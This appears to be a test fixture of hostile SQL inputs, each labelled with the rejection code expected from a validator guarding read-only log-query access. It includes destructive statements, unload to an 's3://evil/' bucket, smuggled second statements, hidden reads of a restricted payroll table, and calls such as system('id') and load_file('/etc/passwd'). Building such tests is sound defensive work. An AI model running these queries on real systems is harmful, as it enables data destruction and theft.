-- What attackers write, or a model that obeys a log row. The name begins with the codes that may refuse it, then says what it tries.
-- @{100*(@} stands for a hundred parentheses, <U+202e> for a character that no editor shows. The tables restricted.payroll and
-- from_cloudtrail_raw may never be read.

-- NOT_A_QUERY: insert
insert into from_cloudtrail_readready select * from from_cloudtrail_readready

-- NOT_A_QUERY: delete
delete from from_cloudtrail_readready

-- NOT_A_QUERY: update
update from_cloudtrail_readready set eventname = 'x'

-- NOT_A_QUERY: merge
merge into from_cloudtrail_readready t using (values 1) as s (a) on t.eventid = 'a' when matched then delete

-- NOT_A_QUERY: truncate
truncate table from_cloudtrail_readready

-- NOT_A_QUERY: drop table
drop table from_cloudtrail_readready

-- NOT_A_QUERY: drop table if exists
drop table if exists loglake.from_cloudtrail_raw

-- NOT_A_QUERY: drop schema
drop schema loglake cascade

-- NOT_A_QUERY: create table
create table x (a int)

-- NOT_A_QUERY: create table as
create table x as select * from from_cloudtrail_readready where logcalendarday >= 20261101

-- NOT_A_QUERY: create view
create view x as select * from from_cloudtrail_readready where logcalendarday >= 20261101

-- NOT_A_QUERY: create or replace view
create or replace view from_cloudtrail_readready as select * from from_cloudtrail_readready where logcalendarday >= 20261101

-- NOT_A_QUERY: drop view
drop view x

-- NOT_A_QUERY: materialized view
create materialized view x as select * from from_cloudtrail_readready where logcalendarday >= 20261101

-- NOT_A_QUERY: create schema
create schema evil

-- NOT_A_QUERY: alter
alter table from_cloudtrail_readready rename to gone

-- NOT_A_QUERY: alter add column
alter table from_cloudtrail_readready add column x int

-- NOT_A_QUERY: alter drop column
alter table from_cloudtrail_readready drop column eventid

-- NOT_A_QUERY: grant
grant select on from_cloudtrail_readready to public

-- NOT_A_QUERY: revoke
revoke all privileges on from_cloudtrail_readready from public

-- NOT_A_QUERY: show tables
show tables

-- NOT_A_QUERY: show tables from
show tables from loglake

-- NOT_A_QUERY: show columns
show columns from from_cloudtrail_readready

-- NOT_A_QUERY: show create
show create table from_cloudtrail_readready

-- NOT_A_QUERY: show schemas
show schemas

-- NOT_A_QUERY: show catalogs
show catalogs

-- NOT_A_QUERY: show functions
show functions

-- NOT_A_QUERY: show session
show session

-- NOT_A_QUERY: show stats
show stats for from_cloudtrail_readready

-- NOT_A_QUERY: describe
describe from_cloudtrail_readready

-- NOT_A_QUERY: explain
explain select * from from_cloudtrail_readready where logcalendarday >= 20261101

-- NOT_A_QUERY: explain analyze
explain analyze select * from from_cloudtrail_readready where logcalendarday >= 20261101

-- NOT_A_QUERY: explain of an insert
explain insert into t select 1

-- NOT_A_QUERY: prepare
prepare x from select * from from_cloudtrail_readready

-- NOT_A_QUERY: execute
execute x

-- NOT_A_QUERY: execute immediate
execute immediate 'drop table from_cloudtrail_readready'

-- NOT_A_QUERY: deallocate
deallocate prepare x

-- NOT_A_QUERY: describe input
describe input x

-- NOT_A_QUERY: call
call system.sync_partition_metadata('loglake', 'from_cloudtrail_readready', 'FULL')

-- NOT_A_QUERY: use
use restricted

-- NOT_A_QUERY: set session
set session query_max_run_time = '100h'

-- NOT_A_QUERY: reset session
reset session query_max_run_time

-- NOT_A_QUERY: set role
set role admin

-- NOT_A_QUERY: start transaction
start transaction

-- NOT_A_QUERY: commit
commit

-- NOT_A_QUERY: rollback
rollback

-- NOT_A_QUERY: analyze
analyze from_cloudtrail_readready

-- NOT_A_QUERY: comment
comment on table from_cloudtrail_readready is 'x'

-- NOT_A_QUERY: set time zone
set time zone 'UTC'

-- NOT_A_QUERY: create function
create function f() returns int return 1

-- NOT_A_QUERY: refresh
refresh materialized view x

-- NOT_A_QUERY: alter execute
alter table from_cloudtrail_readready execute optimize

-- NOT_A_QUERY: table function call
create role evil

-- NOT_A_QUERY: deny
deny select on from_cloudtrail_readready to user x

-- PARSE: unload
unload (select * from from_cloudtrail_readready where logcalendarday >= 20261101) to 's3://evil/' with (format = 'JSON')

-- PARSE: msck
msck repair table from_cloudtrail_readready

-- PARSE: vacuum
vacuum from_cloudtrail_readready

-- PARSE: optimize
optimize from_cloudtrail_readready rewrite data using bin_pack

-- PARSE: external function
using external function f(x varchar) returns varchar lambda 'evil' select f(eventname) from from_cloudtrail_readready where logcalendarday >= 20261101

-- PARSE: two statements
select * from from_cloudtrail_readready where logcalendarday >= 20261101; drop table x

-- PARSE: two queries
select * from from_cloudtrail_readready where logcalendarday >= 20261101; select * from from_cloudtrail_readready where logcalendarday >= 20261101

-- PARSE: two semicolons
select * from from_cloudtrail_readready where logcalendarday >= 20261101;;

-- PARSE: a semicolon within
select * ; from from_cloudtrail_readready where logcalendarday >= 20261101

-- PARSE: a statement behind a comment
select * from from_cloudtrail_readready where logcalendarday >= 20261101 /* x */ ; /* y */ delete from from_cloudtrail_readready

-- PARSE: with before an insert
with x as (select 1) insert into from_cloudtrail_readready select * from x

-- PARSE: with before a delete
with x as (select 1) delete from from_cloudtrail_readready

-- PARSE: with before create
with x as (select 1) create table y as select * from x

-- PARSE: hive create external
create external table x (a string) location 's3://evil/'

-- PARSE: hive insert overwrite
insert overwrite table from_cloudtrail_readready select 1

-- PARSE: hive lateral view
select * from from_cloudtrail_readready lateral view explode(a) x as y where logcalendarday >= 20261101

-- PARSE: hive backquotes
select * from `from_cloudtrail_readready` where logcalendarday >= 20261101

-- PARSE: brackets
select * from [from_cloudtrail_readready] where logcalendarday >= 20261101

-- PARSE: double equals
select * from from_cloudtrail_readready where logcalendarday == 20261101

-- PARSE: select into
select * into evil from from_cloudtrail_readready where logcalendarday >= 20261101

-- PARSE: for update
select * from from_cloudtrail_readready where logcalendarday >= 20261101 for update

-- PARSE: outfile
select * from from_cloudtrail_readready where logcalendarday >= 20261101 into outfile '/tmp/x'

-- PARSE: copy
copy from_cloudtrail_readready to '/tmp/x'

-- PARSE: pragma
pragma table_info(x)

-- PARSE: attach
attach 'x' as y

-- PARSE: load
load data inpath 's3://x' into table y

-- PARSE: export
export table x to 's3://y'

-- PARSE: nothing


-- PARSE: only a comment
-- nothing

-- PARSE: only a semicolon
;

-- PARSE: a text
'select 1'

-- PARSE: no SQL
please drop everything

-- PARSE: an open text
select * from from_cloudtrail_readready where logcalendarday >= 20261101 and eventname = 'x

-- PARSE: an open comment
select * from from_cloudtrail_readready where logcalendarday >= 20261101 /* x

-- PARSE: an open name
select * from "from_cloudtrail_readready where logcalendarday >= 20261101

-- PARSE: an open parenthesis
select * from (from_cloudtrail_readready where logcalendarday >= 20261101

-- PARSE: a dollar text
select $$x$$ from from_cloudtrail_readready where logcalendarday >= 20261101

-- PARSE: a line as separator
select * from from_cloudtrail_readready where logcalendarday >= 20261101
go
drop table x

-- PARSE: hint of another engine
select top 10 * from from_cloudtrail_readready where logcalendarday >= 20261101

-- PARSE: connect by
select * from from_cloudtrail_readready where logcalendarday >= 20261101 connect by prior a = b

-- PARSE: limit with two numbers
select * from from_cloudtrail_readready where logcalendarday >= 20261101 limit 5, 10

-- PARSE: qualify
select * from from_cloudtrail_readready where logcalendarday >= 20261101 qualify row_number() over (order by eventid) = 1

-- PARSE: pivot
select * from from_cloudtrail_readready pivot (count(*) for eventname in ('a'))

-- PARSE: a variable
select @@version from from_cloudtrail_readready where logcalendarday >= 20261101

-- PARSE: hash comment
select * from from_cloudtrail_readready where logcalendarday >= 20261101 # and

-- PARSE: grant within
select (grant all on x to y) from from_cloudtrail_readready where logcalendarday >= 20261101

-- PARSE: an insert in a sub-query
select * from (insert into from_cloudtrail_readready select 1) x

-- PARSE: a delete in WITH
with x as (delete from from_cloudtrail_readready returning *) select * from x

-- TABLE: table, raw
select * from from_cloudtrail_raw where logcalendarday >= 20261101

-- TABLE: table, raw with database
select * from loglake.from_cloudtrail_raw where logcalendarday >= 20261101

-- TABLE: table, raw with catalog
select * from awsdatacatalog.loglake.from_cloudtrail_raw where logcalendarday >= 20261101

-- TABLE: table, another database
select * from restricted.payroll where logcalendarday >= 20261101

-- TABLE: table, another database, known table
select * from restricted.from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: table, another catalog
select * from other.loglake.from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: table, information schema
select * from information_schema.tables where logcalendarday >= 20261101

-- TABLE: table, information schema of the catalog
select * from awsdatacatalog.information_schema.columns where logcalendarday >= 20261101

-- TABLE: table, system catalog
select * from system.runtime.queries where logcalendarday >= 20261101

-- TABLE: table, jdbc tables
select * from system.jdbc.tables where logcalendarday >= 20261101

-- TABLE: table, partitions
select * from "from_cloudtrail_readready$partitions" where logcalendarday >= 20261101

-- TABLE: table, properties
select * from loglake."from_cloudtrail_readready$properties" where logcalendarday >= 20261101

-- TABLE: table, history
select * from "from_cloudtrail_readready$history" where logcalendarday >= 20261101

-- TABLE: table, files
select * from "from_cloudtrail_readready$files" where logcalendarday >= 20261101

-- TABLE: table, unknown
select * from payroll where logcalendarday >= 20261101

-- PARSE, TABLE: table, empty name
select * from "" where logcalendarday >= 20261101

-- TABLE: table, dot within a name
select * from "loglake.from_cloudtrail_readready" where logcalendarday >= 20261101

-- TABLE: table, blank in a name
select * from "from_cloudtrail_readready " where logcalendarday >= 20261101

-- TABLE: table, wildcard
select * from "from_*" where logcalendarday >= 20261101

-- TABLE: table, path
select * from "s3://evil/x" where logcalendarday >= 20261101

-- TABLE, PARSE: table, four parts
select * from a.awsdatacatalog.loglake.from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: table, raw of decisions
select * from loglake_decisions_raw where logcalendarday >= 20261101

-- TABLE: table, raw, quoted
select * from "from_cloudwatch_raw" where logcalendarday >= 20261101

-- TABLE: table, raw in capitals
select * from FROM_CLOUDTRAIL_RAW where logcalendarday >= 20261101

-- TABLE: table, tpch
select * from tpch.tiny.customer where logcalendarday >= 20261101

-- PARSE: table, a letter that looks alike
select * from from_clоudtrail_readready where logcalendarday >= 20261101

-- TABLE: table, quoted letter that looks alike
select * from "from_clоudtrail_readready" where logcalendarday >= 20261101

-- TABLE: table, quoted kelvin sign
select * from "from_cloudwatch_Kaw" where logcalendarday >= 20261101

-- TABLE: forbidden table, join
select * from from_cloudtrail_readready t join restricted.payroll p on t.eventid = p.id where t.logcalendarday >= 20261101

-- TABLE: forbidden table, left join
select * from from_cloudtrail_readready t left join from_cloudtrail_raw p on t.eventid = p.id where t.logcalendarday >= 20261101

-- TABLE: forbidden table, cross join
select * from from_cloudtrail_readready t cross join restricted.payroll where t.logcalendarday >= 20261101

-- TABLE: forbidden table, comma
select * from from_cloudtrail_readready t, restricted.payroll p where t.logcalendarday >= 20261101

-- TABLE: forbidden table, sub-query
select * from (select secret from restricted.payroll) x

-- TABLE: forbidden table, union
select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 union select secret from restricted.payroll

-- TABLE: forbidden table, union all
select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 union all select secret from restricted.payroll

-- TABLE: forbidden table, intersect
select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 intersect select secret from restricted.payroll

-- TABLE: forbidden table, except
select secret from restricted.payroll except select eventname from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, union in parentheses
(select eventname from from_cloudtrail_readready where logcalendarday >= 20261101) union all (select secret from restricted.payroll)

-- TABLE: forbidden table, in
select * from from_cloudtrail_readready where logcalendarday >= 20261101 and eventname in (select secret from restricted.payroll)

-- TABLE: forbidden table, not in
select * from from_cloudtrail_readready where logcalendarday >= 20261101 and eventname not in (select secret from restricted.payroll)

-- TABLE: forbidden table, exists
select * from from_cloudtrail_readready where logcalendarday >= 20261101 and exists (select secret from restricted.payroll)

-- TABLE: forbidden table, value
select (select secret from restricted.payroll) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, value in where
select * from from_cloudtrail_readready where logcalendarday >= 20261101 and eventname = (select secret from restricted.payroll)

-- TABLE: forbidden table, any
select * from from_cloudtrail_readready where logcalendarday >= 20261101 and eventname = any (select secret from restricted.payroll)

-- TABLE: forbidden table, all
select * from from_cloudtrail_readready where logcalendarday >= 20261101 and eventname > all (select secret from restricted.payroll)

-- TABLE: forbidden table, case
select case when exists (select secret from restricted.payroll) then 1 end from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, case result
select case eventname when 'a' then (select secret from restricted.payroll) end from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, coalesce
select coalesce(eventname, (select secret from restricted.payroll)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, if
select if(true, (select secret from restricted.payroll)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, nullif
select nullif(eventname, (select secret from restricted.payroll)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, try
select try((select secret from restricted.payroll)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, cast
select cast((select secret from restricted.payroll) as varchar) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, function argument
select lower((select secret from restricted.payroll)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, array
select array[(select secret from restricted.payroll)] from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, row
select row((select secret from restricted.payroll)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, subscript
select split(eventname, 'a')[(select secret from restricted.payroll)] from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, between
select * from from_cloudtrail_readready where logcalendarday >= 20261101 and eventname between 'a' and (select secret from restricted.payroll)

-- TABLE: forbidden table, like
select * from from_cloudtrail_readready where logcalendarday >= 20261101 and eventname like (select secret from restricted.payroll)

-- TABLE, PARSE: forbidden table, escape
select * from from_cloudtrail_readready where logcalendarday >= 20261101 and eventname like 'a' escape (select secret from restricted.payroll)

-- TABLE: forbidden table, is null
select (select secret from restricted.payroll) is null from from_cloudtrail_readready where logcalendarday >= 20261101

-- PARSE: forbidden table, at time zone
select eventtime at time zone (select secret from restricted.payroll) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, extract
select extract(year from (select secret from restricted.payroll)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, trim
select trim((select secret from restricted.payroll) from eventname) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, concat
select eventname || (select secret from restricted.payroll) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, not
select * from from_cloudtrail_readready where logcalendarday >= 20261101 and not ((select secret from restricted.payroll) = 'a')

-- TABLE: forbidden table, group by
select count(*) from from_cloudtrail_readready where logcalendarday >= 20261101 group by (select secret from restricted.payroll)

-- TABLE: forbidden table, rollup
select count(*) from from_cloudtrail_readready where logcalendarday >= 20261101 group by rollup ((select secret from restricted.payroll))

-- TABLE: forbidden table, cube
select count(*) from from_cloudtrail_readready where logcalendarday >= 20261101 group by cube (eventname, (select secret from restricted.payroll))

-- TABLE: forbidden table, grouping sets
select count(*) from from_cloudtrail_readready where logcalendarday >= 20261101 group by grouping sets ((eventname, (select secret from restricted.payroll)), ())

-- TABLE: forbidden table, having
select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 group by eventname having max(eventid) > (select secret from restricted.payroll)

-- TABLE: forbidden table, order by
select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 order by (select secret from restricted.payroll)

-- TABLE: forbidden table, order by of a union
select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 union select 'a' order by (select secret from restricted.payroll)

-- TABLE: forbidden table, array_agg order by
select array_agg(eventname order by (select secret from restricted.payroll)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, filter
select count(*) filter (where eventname = (select secret from restricted.payroll)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, over partition
select count(*) over (partition by (select secret from restricted.payroll)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, over order
select rank() over (order by (select secret from restricted.payroll)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE, PARSE: forbidden table, frame
select count(*) over (order by eventid rows (select secret from restricted.payroll) preceding) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, window
select count(*) over w from from_cloudtrail_readready where logcalendarday >= 20261101 window w as (partition by (select secret from restricted.payroll))

-- TABLE: forbidden table, unused window
select count(*) from from_cloudtrail_readready where logcalendarday >= 20261101 window w as (order by (select secret from restricted.payroll))

-- TABLE: forbidden table, lambda
select transform(split(eventname, 'a'), x -> (select secret from restricted.payroll)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, listagg
select listagg(eventname, ',') within group (order by (select secret from restricted.payroll)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, on
select * from from_cloudtrail_readready t join from_cloudwatch_readready w on t.f_sessionid = w.f_sessionid and t.eventname = (select secret from restricted.payroll) where t.logcalendarday >= 20261101 and w.logcalendarday >= 20261101

-- TABLE: forbidden table, unnest
select * from from_cloudtrail_readready cross join unnest(array[(select secret from restricted.payroll)]) as x (y) where logcalendarday >= 20261101

-- TABLE: forbidden table, values
select * from from_cloudtrail_readready t join (values ((select secret from restricted.payroll))) as v (a) on t.eventname = v.a where t.logcalendarday >= 20261101

-- TABLE: forbidden table, lateral
select * from from_cloudtrail_readready t cross join lateral (select secret from restricted.payroll) x where t.logcalendarday >= 20261101

-- TABLE: forbidden table, lateral of raw
select * from from_cloudtrail_readready t cross join lateral (select * from from_cloudtrail_raw r where r.x = t.eventid) x where t.logcalendarday >= 20261101

-- TABLE: forbidden table, with
with x as (select secret from restricted.payroll) select * from x

-- TABLE: forbidden table, unused with
with x as (select secret from restricted.payroll) select * from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, with in a sub-query
select * from from_cloudtrail_readready where logcalendarday >= 20261101 and eventname in (with x as (select secret from restricted.payroll) select * from x)

-- TABLE: forbidden table, with of a with
with a as (with b as (select secret from restricted.payroll) select * from b) select * from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, deep
select * from (select * from (select * from (select secret from restricted.payroll) a) b) c

-- TABLE: forbidden table, a name of WITH out of its place
select * from (with payroll as (select eventname from from_cloudtrail_readready where logcalendarday >= 20261101) select * from payroll) a join payroll b on a.eventname = b.eventname

-- TABLE: forbidden table, a name of WITH before it is there
with a as (select * from b), b as (select eventname from from_cloudtrail_readready where logcalendarday >= 20261101) select * from a

-- TABLE: forbidden table, a name of WITH in itself
with a as (select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 union all select * from a) select * from a

-- TABLE: forbidden table, with under a table's name
with from_cloudtrail_raw as (select eventname from from_cloudtrail_readready where logcalendarday >= 20261101) select * from from_cloudtrail_raw

-- TABLE: forbidden table, with under the table's own name
with from_cloudtrail_readready as (select * from from_cloudtrail_readready where logcalendarday >= 20261101) select * from from_cloudtrail_readready

-- TABLE: forbidden table, with under a quoted table's name
with "FROM_CLOUDTRAIL_RAW" as (select eventname from from_cloudtrail_readready where logcalendarday >= 20261101) select * from from_cloudtrail_raw

-- TABLE, PARSE: forbidden table, with under a name of the rewrite
with _lake_x as (select 1) select * from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, with under a quoted name of the rewrite
with "_lake_from_cloudtrail_readready" as (select eventname from from_cloudwatch_readready where logcalendarday >= 20261101) select * from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, with twice
with a as (select eventname from from_cloudtrail_readready where logcalendarday >= 20261101), a as (select eventid from from_cloudtrail_readready where logcalendarday >= 20261101) select * from a

-- TABLE: forbidden table, the rewrite's name without WITH
select * from "_lake_from_cloudtrail_readready"

-- TABLE: forbidden table, an alias that hides
select * from restricted.payroll as from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE: forbidden table, a schema of WITH
with a as (select eventname from from_cloudtrail_readready where logcalendarday >= 20261101) select * from loglake.a

-- RECURSIVE: recursion
with recursive a (n) as (select 1 union all select n + 1 from a where n < 10) select * from a

-- RECURSIVE: recursion beside a table
with recursive a (n) as (select 1 union all select n + 1 from a) select * from from_cloudtrail_readready where logcalendarday >= 20261101

-- TABLE_STMT: TABLE
table from_cloudtrail_readready

-- TABLE_STMT: TABLE of raw
table from_cloudtrail_raw

-- TABLE_STMT: TABLE in a union
select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 union table from_cloudtrail_raw

-- TABLE_STMT: TABLE in a sub-query
select * from (table from_cloudtrail_raw) x

-- TABLE_STMT: TABLE in WITH
with x as (table from_cloudtrail_raw) select * from x

-- TABLE_STMT: TABLE in EXISTS
select * from from_cloudtrail_readready where logcalendarday >= 20261101 and exists (table from_cloudtrail_raw)

-- INLINE_FUNCTION, PARSE: a function of its own
with function f(x int) returns int return x + 1 select f(1) from from_cloudtrail_readready where logcalendarday >= 20261101

-- INLINE_FUNCTION, PARSE: a function with a body
with function f() returns varchar begin return 'x'; end select f() from from_cloudtrail_readready where logcalendarday >= 20261101

-- TIME_TRAVEL: an earlier version
select * from from_cloudtrail_readready for version as of 1 where logcalendarday >= 20261101

-- TIME_TRAVEL: an earlier time
select * from from_cloudtrail_readready for timestamp as of timestamp '2020-01-01 00:00:00' where logcalendarday >= 20261101

-- RELATION: table function
select * from table(system.query('drop table x'))

-- RELATION: exclude_columns
select * from table(exclude_columns(input => table(from_cloudtrail_raw), columns => descriptor(a)))

-- RELATION: sequence as a table
select * from table(sequence(1, 1000000000))

-- RELATION: tablesample
select * from from_cloudtrail_readready tablesample bernoulli (10) where logcalendarday >= 20261101

-- RELATION: tablesample system
select * from from_cloudtrail_readready tablesample system (100) where logcalendarday >= 20261101

-- RELATION: match_recognize
select * from from_cloudtrail_readready match_recognize (partition by eventname order by eventtime measures a.eventid as x pattern (a b+) define b as true)

-- RELATION: natural join
select * from from_cloudtrail_readready natural join from_cloudwatch_readready where logcalendarday >= 20261101

-- RELATION: json_table
select * from from_cloudtrail_readready t cross join json_table(t.requestparameters, 'lax $' columns (a varchar path 'lax $.a')) where t.logcalendarday >= 20261101

-- RELATION: unnest without names
select * from from_cloudtrail_readready cross join unnest(array[1]) where logcalendarday >= 20261101

-- RELATION: lateral over a served table
select * from from_cloudtrail_readready t cross join lateral (select * from from_cloudwatch_readready w where w.f_sessionid = t.f_sessionid and w.logcalendarday >= 20261101) x where t.logcalendarday >= 20261101

-- RELATION, PARSE, TABLE: only
select * from only(from_cloudtrail_readready)

-- EXPR: parameter
select ? from from_cloudtrail_readready where logcalendarday >= 20261101

-- EXPR: current_user
select current_user from from_cloudtrail_readready where logcalendarday >= 20261101

-- EXPR: current_catalog
select current_catalog from from_cloudtrail_readready where logcalendarday >= 20261101

-- EXPR: current_schema
select current_schema from from_cloudtrail_readready where logcalendarday >= 20261101

-- EXPR: current_path
select current_path from from_cloudtrail_readready where logcalendarday >= 20261101

-- EXPR: format
select format('%1000000000d', 1) from from_cloudtrail_readready where logcalendarday >= 20261101

-- EXPR: json_query
select json_query(requestparameters, 'lax $.a') from from_cloudtrail_readready where logcalendarday >= 20261101

-- EXPR: json_value
select json_value(requestparameters, 'lax $.a ? (@ like_regex "(a+)+")') from from_cloudtrail_readready where logcalendarday >= 20261101

-- EXPR: json_exists
select json_exists(requestparameters, 'lax $.a') from from_cloudtrail_readready where logcalendarday >= 20261101

-- EXPR: json_object
select json_object('a' : (select secret from restricted.payroll)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- EXPR: json_array
select json_array((select secret from restricted.payroll)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- EXPR, FUNCTION, COLUMN: pattern of rows in a window
select m over w from from_cloudtrail_readready where logcalendarday >= 20261101 window w as (partition by eventname measures a.eventid as m rows between current row and unbounded following pattern (a) define a as true)

-- FUNCTION: function version
select version() from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function query
select query('select 1') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function system
select system('id') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function load_file
select load_file('/etc/passwd') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function pg_read_file
select pg_read_file('x') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function sleep
select sleep(10) from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function pg_sleep
select pg_sleep(10) from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function benchmark
select benchmark(1, 2) from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function http_get
select http_get('http://evil') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function url_fetch
select url_fetch('x') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function current_groups
select current_groups() from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function uuid
select uuid() from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function random
select random() from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function rand
select rand() from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function fail
select fail('x') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function "$internal$format"
select "$internal$format"('x') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function loglake.f
select loglake.f(eventname) from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function system.f
select system.f(1) from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function awsdatacatalog.loglake.lower
select awsdatacatalog.loglake.lower(eventname) from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function dblink
select dblink('x') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function lambda_invoke
select lambda_invoke('x') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function st_geometryfromtext
select st_geometryfromtext('x') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function to_geometry
select to_geometry('x') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function bing_tile
select bing_tile(1,2,3) from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function learn_classifier
select learn_classifier(1, 2) from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function make_set_digest
select make_set_digest(1) from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function tdigest_agg
select tdigest_agg(1.0) from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function approx_set
select approx_set(eventid) from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function merge
select merge(eventid) from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function wilson_interval_lower
select wilson_interval_lower(1,2,3) from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function from_ieee754_32
select from_ieee754_32(x'00') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function key_sampling_percent
select key_sampling_percent('x') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function render
select render('x', 'y') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function bar
select bar(0.5, 100000000) from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function color
select color('red') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function hash_counts
select hash_counts(eventid) from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function current_timezone
select current_timezone() from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function shuffle
select shuffle(split(eventname, 'a')) from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function count_star_of
select count_star_of('from_cloudtrail_raw') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function exec
select exec('x') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function xp_cmdshell
select xp_cmdshell('dir') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: function utl_http.request
select utl_http.request('x') from from_cloudtrail_readready where logcalendarday >= 20261101

-- FUNCTION: a function in the bound
select * from from_cloudtrail_readready where logcalendarday >= version()

-- FUNCTION: a function in an unused WITH
with x as (select version() as v) select * from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE, PARSE: type hyperloglog
select cast(eventname as hyperloglog) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE, PARSE: type geometry
select cast(eventname as geometry) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE, PARSE: type qdigest(bigint)
select cast(eventname as qdigest(bigint)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE, PARSE: type tdigest
select cast(eventname as tdigest) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE, PARSE: type regtype
select cast(eventname as regtype) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE, PARSE: type unknown
select cast(eventname as unknown) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE, PARSE: type p4hyperloglog
select cast(eventname as p4hyperloglog) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE, PARSE: type color
select cast(eventname as color) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE, PARSE: type setdigest
select cast(eventname as setdigest) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE, PARSE: type "no such type"
select cast(eventname as "no such type") from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE, PARSE: type jsonpath
select cast(eventname as jsonpath) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE, PARSE: type likepattern
select cast(eventname as likepattern) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE, PARSE: type codepoints
